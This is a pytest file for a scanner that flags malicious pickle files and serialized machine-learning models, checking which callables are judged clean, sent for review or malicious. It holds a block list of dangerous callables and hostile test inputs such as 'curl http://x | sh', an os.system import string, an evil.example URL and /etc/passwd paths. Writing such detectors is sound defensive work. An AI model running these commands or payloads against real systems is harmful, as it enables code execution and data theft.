import pytest

from weigh.checks.security.callable_table import allowed, dangerous, looks_like_class, uses_of
from weigh.checks.security.callables import MAX_FINDINGS, findings_of_callables, judge
from weigh.checks.security.rules.callables import RULES
from weigh.core.facts import CallableUse, Coverage, FileFacts, Use
from weigh.core.finding import Confidence, Severity
from weigh.core.gate import Word, judge_file
from weigh.core.symbol import Symbol, SymbolKind as K

NONE = Symbol(K.NONE, "None")
TRUE = Symbol(K.BOOL, "True")
UNKNOWN = Symbol(K.UNKNOWN)


def text(value):
    return Symbol(K.TEXT, value[:200], (), len(value))


def number(value):
    return Symbol(K.INT, str(value))


def named(module, name):
    return Symbol(K.GLOBAL, f"{module} {name}")


def made(module, name, *items):
    return Symbol(K.CALL, f"{module} {name}", items, len(items))


def several(*items, kind=K.TUPLE):
    return Symbol(kind, "", items, len(items))


STORAGE = Symbol(K.PERSISTENT, "", (several(text("storage"), named("torch", "FloatStorage")),), 1)
ORDERED = made("collections", "OrderedDict")
SHAPE = several(number(2), number(3))
DTYPE = made("numpy", "dtype", text("f8"), Symbol(K.BOOL, "False"), TRUE)
RAW = Symbol(K.BYTES, "62", (), 1)
DICT = Symbol(K.DICT, "", (text("a"), number(1)), 1)


def word_of(*uses):
    facts = FileFacts("x.pkl", "pickle", Coverage.COMPLETE, callables=uses)
    return judge_file(facts, tuple(findings_of_callables(facts)))


def call(module, name, *arguments, how=Use.CALL):
    return CallableUse(module, name, 0, how, arguments)


HONEST = [
    call("torch._utils", "_rebuild_tensor_v2", STORAGE, number(0), SHAPE, SHAPE, TRUE, ORDERED),
    call("torch._utils", "_rebuild_tensor", STORAGE, number(0), SHAPE, SHAPE),
    call("torch._utils", "_rebuild_parameter", made("torch._utils", "_rebuild_tensor_v2"), TRUE, ORDERED),
    call(
        "torch._tensor",
        "_rebuild_from_type_v2",
        named("torch._utils", "_rebuild_tensor_v2"),
        named("torch", "Tensor"),
        several(STORAGE, number(0), SHAPE, SHAPE, TRUE, ORDERED),
        DICT,
    ),
    call("torch", "FloatStorage", how=Use.IMPORT),
    call("torch", "Size", SHAPE),
    call("torch", "device", text("cuda"), number(0)),
    call("torch._utils", "torch.channels_last", how=Use.IMPORT),
    call("torch.nn.modules.linear", "Linear.__new__"),
    call("torch.nn.modules.linear", "Linear", DICT, how=Use.SET_STATE),
    call("collections", "OrderedDict"),
    call("collections", "defaultdict", named("builtins", "list")),
    call("numpy.core.multiarray", "_reconstruct", named("numpy", "ndarray"), several(number(0)), RAW),
    call("numpy._core.multiarray", "_reconstruct", named("numpy", "ndarray"), several(number(0)), RAW),
    call("numpy._core.multiarray", "_reconstruct", SHAPE, how=Use.SET_STATE),
    call("numpy._core.multiarray", "scalar", DTYPE, RAW),
    call("numpy", "dtype", text("O8"), Symbol(K.BOOL, "False"), TRUE),
    call("_codecs", "encode", text("\x00ab"), text("latin1")),
    call("copyreg", "_reconstructor", named("acme", "A"), named("builtins", "object"), NONE),
    call("copy_reg", "_reconstructor", named("acme", "A"), named("__builtin__", "object"), NONE),
    call("builtins", "getattr", named("transformers.trainer_utils", "HubStrategy"), text("EVERY_SAVE")),
    call("transformers.trainer_utils", "IntervalStrategy", text("steps")),
    call("functools", "partial", named("torch.nn.modules.linear", "Linear")),
    call("sklearn.tree._tree", "Tree", number(4), made("numpy", "x"), number(1)),
    call("sklearn.linear_model._logistic", "LogisticRegression.__new__"),
    call("sklearn.linear_model._logistic", "LogisticRegression", DICT, how=Use.SET_STATE),
    call("sklearn.metrics._dist_metrics", "newObj", named("sklearn.metrics._dist_metrics", "X64")),
    call("sklearn.a._b", "__pyx_unpickle_C", named("sklearn.a._b", "C"), number(9), NONE),
    call("__torch__.models", "Net.__new__"),
    call("datetime", "datetime", Symbol(K.BYTES, "07e40101", (), 10)),
    call("pathlib", "PosixPath", text("/"), text("home"), text("ada")),
    call("logging", "getLogger", text("acme")),
    call("dill._dill", "_load_type", text("OrderedDict")),
    call("dill._dill", "_load_type()", several(number(1), kind=K.LIST)),
    call("UserString", "defaultdict", named("builtins", "list")),
    call("numpy.random", "__RandomState_ctor", several(text("MT19937"), DICT), how=Use.SET_STATE),
    call("collections", "OrderedDict", DICT, how=Use.CHANGE),
]


@pytest.mark.parametrize("use", HONEST, ids=[f"{u.module}.{u.name}" for u in HONEST])
def test_what_honest_writers_do_gives_no_finding(use):
    assert judge(use) is None
    assert word_of(use) is Word.CLEAN


QUESTIONS = [
    (call("acme.maps", "restore", DICT, how=Use.CHANGE), "WGH-C001"),
    (call("acme.layers", "Attention.__new__"), "WGH-C001"),
    (call("acme.layers", "Attention", DICT, how=Use.SET_STATE), "WGH-C001"),
    (call("acme.layers", "Point", number(1), text("https://acme.example/")), "WGH-C001"),
    (call("acme.types", "Colour", text("red")), "WGH-C001"),
    (call("acme.layers", "rebuild", number(1)), "WGH-C001"),
    (call("numpy.core.multiarray", "_reconstruct", UNKNOWN), "WGH-PK104"),
    (
        call("torch._utils", "_rebuild_tensor_v2", UNKNOWN, number(0), SHAPE, SHAPE, TRUE, ORDERED),
        "WGH-PK104",
    ),
    (call("torch._utils", "_rebuild_tensor_v2", STORAGE, number(0), SHAPE, SHAPE, TRUE), "WGH-PK104"),
    (call("pandas.core.indexes.base", "_new_Index", named("numpy", "memmap"), DICT), "WGH-PK104"),
    (call("_codecs", "encode", UNKNOWN), "WGH-PK104"),
    (call("copyreg", "_reconstructor", how=Use.IMPORT), "WGH-PK104"),
    (call("copyreg", "extension 5"), "WGH-PK110"),
    (call("sklearn.new", "__pyx_unpickle_X", number(1)), "WGH-PK104"),
    (call("torch.new", "_rebuild_something", number(1)), "WGH-C001"),
]


@pytest.mark.parametrize(("use", "rule"), QUESTIONS, ids=[f"{u.module}.{u.name}" for u, _ in QUESTIONS])
def test_what_is_not_known_is_for_a_person(use, rule):
    judged = judge(use)
    assert judged is not None
    assert judged.rule == rule
    assert word_of(use) is Word.REVIEW


REACHED = [
    (call("invoke", "run.__new__", several(text("sh"), text("-c"), text("touch x"))), "WGH-PK102"),
    (call("torch.jit", "load.__new__", text("http://10.0.0.1/x")), "WGH-PK102"),
    (call("sklearn.utils._joblib", "os", how=Use.IMPORT), "WGH-PK106"),
    (call("scipy.sparse", "sys", how=Use.IMPORT), "WGH-PK106"),
]


@pytest.mark.parametrize(("use", "rule"), REACHED, ids=[f"{u.module}.{u.name}" for u, _ in REACHED])
def test_functions_made_like_classes_and_modules_of_libraries_are_attacks(use, rule):
    judged = judge(use)
    assert judged is not None
    assert judged.rule == rule
    assert word_of(use) is Word.MALICIOUS


ATTACKS = """
WGH-PK101 os.system posix.system nt.system builtins.eval builtins.exec builtins.compile builtins.__import__
WGH-PK101 builtins.open builtins.setattr builtins.delattr builtins.input builtins.breakpoint builtins.vars
WGH-PK101 builtins.map builtins.filter builtins.print __builtin__.eval __builtin__.execfile __builtin__.apply
WGH-PK101 operator.attrgetter operator.methodcaller _operator.attrgetter functools.reduce types.CodeType
WGH-PK101 types.FunctionType marshal.loads ctypes.CDLL code.InteractiveInterpreter profile.run pdb.run
WGH-PK101 timeit.timeit cProfile.runctx doctest.debug_script idlelib.calltip.get_entity distutils.spawn.spawn
WGH-PK101 distutils.file_util.write_file ensurepip._run_pip venv.create webbrowser.open smtplib.SMTP
WGH-PK101 ssl.get_server_certificate socket.create_connection http.client.HTTPConnection asyncio.run
WGH-PK101 urllib.request.urlopen tempfile.mkstemp shutil.rmtree io.open io.FileIO _io.FileIO _io.open
WGH-PK101 logging.config.dictConfig logging.FileHandler linecache.getlines sqlite3.connect runpy.run_path
WGH-PK101 zipimport.zipimporter pty.spawn _posixsubprocess.fork_exec multiprocessing.util.spawnv_passfds
WGH-PK101 threading.Thread signal.signal gc.get_objects sys.exit pydoc.pipepager pkgutil.resolve_name
WGH-PK101 importlib.import_module copyreg.add_extension test.support.script_helper.assert_python_ok
WGH-PK101 _osx_support._find_build_tool _aix_support._read_cmd_output _pyrepl.pager.pipe_pager
WGH-PK101 uuid._get_command_stdout imaplib.IMAP4_stream commands.getoutput _interpreters.exec annotationlib.x
WGH-PK102 numpy.load numpy.f2py.crackfortran.getlincoef numpy.testing._private.utils.runstring
WGH-PK102 numpy.f2py.capi_maps.load_f2cmap_file torch.load torch.hub.load torch.jit.load
WGH-PK102 torch.serialization.load
WGH-PK102 torch._inductor.codecache.compile_file torch.jit.unsupported_tensor_ops.execWrapper
WGH-PK102 torch.utils.bottleneck.__main__.run_cprofile torch.utils.collect_env.run
WGH-PK102 torch.utils.data.datapipes.utils.decoder.basichandlers torch.fx.graph_module.reduce_graph_module
WGH-PK102 torch.distributed.rpc.rpc_sync torch.multiprocessing.spawn torch.utils.cpp_extension.load_inline
WGH-PK102 pandas.read_pickle pandas.eval pandas.io.pickle.read_pickle joblib.load yaml.unsafe_load
WGH-PK102 requests.get
WGH-PK102 aiohttp.client.ClientSession IPython.utils.process.system pip.main pip._internal.main
WGH-PK102 setuptools._distutils.spawn.spawn sklearn.datasets.fetch_openml scipy.io.loadmat
WGH-PK102 keras.utils.get_file
WGH-PK102 transformers.utils.hub.cached_file nltk.data.load sympy.sympify six.exec_ jinja2.Template
WGH-PK109 dill._dill._create_function dill._dill._create_code cloudpickle.cloudpickle._make_function
WGH-PK109 cloudpickle.cloudpickle._builtin_type cloudpickle.cloudpickle.subimport dill.loads cloudpickle.loads
WGH-PK105 acme.tools.run_command acme.core.eval acme.vendor.subprocess.run acme.os.remove
""".strip()
CALLED = [
    (rule, *name.rsplit(".", 1))
    for line in ATTACKS.splitlines()
    for rule, names in [line.split(" ", 1)]
    for name in names.split(" ")
]


@pytest.mark.parametrize(("rule", "module", "name"), CALLED, ids=[f"{m}.{n}" for _, m, n in CALLED])
def test_a_call_that_does_harm_is_malicious(rule, module, name):
    use = call(module, name, text("x"))
    assert word_of(use) is Word.MALICIOUS
    judged = judge(use)
    assert judged is not None
    # what lies in a module whose tests carry another rule is as bad
    assert judged.rule == rule or rule == "WGH-PK101"


SHAPES = {
    "dotted through a module": call("torch", "os.system", text("x")),
    "dotted through a private module": call("numpy", "testing._private.utils.runstring", text("x")),
    "a module behind a module": call("torch", "os", how=Use.IMPORT),
    "a dunder of a class": call("collections", "OrderedDict.__class__", how=Use.IMPORT),
    "subclasses": call("acme", "Thing.__subclasses__"),
    "a stdlib global only named": call("os", "system", how=Use.IMPORT),
    "getattr of a dunder": call("builtins", "getattr", named("acme", "A"), text("__globals__")),
    "getattr of a text": call("builtins", "getattr", text("x"), text("y")),
    "a codec that hides": call("_codecs", "encode", text("cevag"), text("rot13")),
    "codecs decode": call("_codecs", "decode", text("x"), text("hex")),
    "partial of a text": call("functools", "partial", text("x")),
    "result of a partial called": call("functools", "partial()", text("x")),
    "result of itemgetter called": call("operator", "itemgetter()", text("x")),
    "computed name": call("", "(computed)", text("x")),
    "rebuild that calls another": call(
        "torch._tensor",
        "_rebuild_from_type_v2",
        named("os", "system"),
        named("torch", "Tensor"),
        several(text("true")),
        NONE,
    ),
    "rebuild that calls an allowed one badly": call(
        "torch._tensor",
        "_rebuild_from_type_v2",
        named("builtins", "getattr"),
        named("torch", "Tensor"),
        several(named("acme", "A"), text("__dict__")),
        NONE,
    ),
    "ufunc of another module": call("numpy.core", "_ufunc_reconstruct", text("os"), text("system")),
    "a class with a pickle inside": call(
        "torch.utils.data.datapipes.datapipe", "_IterDataPipeSerializationWrapper", RAW, how=Use.SET_STATE
    ),
    "items put into a tensor": call("torch._utils", "_rebuild_tensor_v2", NONE, how=Use.CHANGE),
    "items put into what a module of Python gave": call("os", "environ", DICT, how=Use.CHANGE),
    "a storage changed": call("", "(persistent id)", DICT, how=Use.CHANGE),
    "dill type of code": call("dill._dill", "_load_type", text("CodeType")),
    "a classmethod": call("transformers", "AutoModel.from_pretrained", text("evil/model")),
    "a file opened by a class": call("numpy", "memmap", text("/etc/passwd")),
    "a reference called": call("numpy", "mean", number(1)),
    "code in an argument": call("acme.core", "Thing", text("__import__('os').system('true')")),
    "a command in an argument": call("acme.core", "thing", text("curl http://x | sh")),
    "an address in a function's argument": call("acme.core", "thing", text("http://evil.example/x")),
    "a path in a function's argument": call("acme.core", "thing", text("/etc/passwd")),
    "a nested path": call("acme.core", "thing", several(several(text("../../x")))),
    "bytes with code": call("acme.core", "thing", Symbol(K.BYTES, b"import os".hex(), (), 9)),
    "a keyword": CallableUse("acme", "f", 0, Use.CALL, (), (("path", text("/etc/passwd")),)),
}


@pytest.mark.parametrize("name", SHAPES)
def test_a_shape_of_attack_is_malicious(name):
    assert word_of(SHAPES[name]) is Word.MALICIOUS


def test_every_rule_is_met_by_a_use_of_this_file():
    seen = {judge(use).rule for use in [*SHAPES.values(), *(q for q, _ in QUESTIONS)]}
    seen |= {judge(call(m, n, text("x"))).rule for _, m, n in CALLED}
    assert seen >= set(RULES) - {"WGH-PK101"}


def test_only_certain_rules_are_certain():
    for rule in RULES.values():
        certain = (rule.severity, rule.confidence) == (Severity.CRITICAL, Confidence.HIGH)
        assert certain or (rule.severity, rule.confidence) == (Severity.HIGH, Confidence.MEDIUM)
        assert all(r.startswith("CWE-") for r in rule.references)


def test_a_flood_of_unknown_classes_does_not_hide_the_attack():
    uses = [call("acme", f"C{n}", how=Use.IMPORT) for n in range(500)]
    facts = FileFacts("x", "pickle", Coverage.COMPLETE, callables=(*uses, call("os", "system", text("x"))))
    findings = list(findings_of_callables(facts))
    assert findings[0].rule == "WGH-PK101"
    assert len(findings) == MAX_FINDINGS + 1
    assert "451 more" in findings[-1].message


def test_hostile_names_are_cut_and_shown_as_what_they_are():
    (finding,) = findings_of_callables(
        FileFacts("x", "pickle", Coverage.COMPLETE, callables=(call("a" * 9000, "b\x1b[31m"),))
    )
    assert len(finding.message) < 400
    assert "\x1b" not in finding.message


def test_the_tables_are_in_the_grammar_and_say_why():
    for table in (allowed(), dangerous()):
        for entry in (*table.exact.values(), *(e for p in table.patterns.values() for e in p.values())):
            assert entry.group.reason
            assert entry.group.library
            assert entry.group.versions
            uses = uses_of(entry.uses)
            assert uses.reference or uses.call


def test_no_pattern_allows_a_function_to_be_called():
    """A whole library is trusted with classes as data, never with its functions."""
    for module, names in allowed().patterns.items():
        if module != "__torch__.**" and "a*" in names:
            assert uses_of(names["a*"].uses).call == ()


@pytest.mark.parametrize(
    ("name", "said"), [("Linear", True), ("_Loss", True), ("norm", False), ("A.b", False)]
)
def test_classes_are_told_by_their_names(name, said):
    assert looks_like_class(name) is said
